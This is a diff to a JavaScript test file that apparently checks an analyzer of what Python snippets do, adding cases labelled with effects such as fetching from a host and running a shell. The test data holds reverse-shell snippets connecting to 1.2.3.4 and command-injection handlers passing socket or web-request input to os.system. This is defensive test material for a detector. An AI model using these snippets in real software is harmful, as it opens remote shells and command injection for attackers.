@@ -147,6 +147,30 @@ describe("commands and effects of Python", () => {
       ":fetch http://x.example/p | :run sh",
     ],
     [
+      "a method under a name of its own",
+      'import socket, subprocess\ns = socket.socket()\ns.connect(("1.2.3.4", 5))\nf = s.fileno\nsubprocess.call(["/bin/sh"], stdin=f())',
+      "sh",
+      ":fetch '1.2.3.4' | :run sh",
+      ":connect '1.2.3.4' '5'",
+    ],
+    [
+      "a descriptor that is written to",
+      'import os, socket, subprocess\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\ns = socket.create_connection(("1.2.3.4", 5))\nos.write(p.stdin.fileno(), s.recv(9))',
+      "sh",
+      ":fetch '1.2.3.4' | :run sh",
+      ":connect '1.2.3.4' '5'",
+    ],
+    [
+      "a class made of a server's handler",
+      "import os, socketserver\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        os.system(self.rfile.readline())",
+      ":fetch '0.0.0.0' | :run sh",
+    ],
+    [
+      "the request that a page answers",
+      'import os, flask\ndef page():\n    os.system(flask.request.args["c"])',
+      ":fetch '0.0.0.0' | :run sh",
+    ],
+    [
       "a shell on a socket",
       'import socket, subprocess, os\ns = socket.socket()\ns.connect(("1.2.3.4", 5))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
       "sh -i",
